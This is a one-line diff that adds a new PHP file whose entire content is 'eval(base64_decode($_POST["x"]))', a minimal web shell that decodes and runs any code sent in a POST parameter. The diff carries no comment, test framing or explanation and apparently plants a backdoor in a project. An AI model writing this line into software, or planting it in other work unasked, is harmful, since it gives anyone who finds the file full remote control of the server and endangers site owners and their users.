@@ -1,0 +1,1 @@
+<?php eval(base64_decode($_POST["x"]));
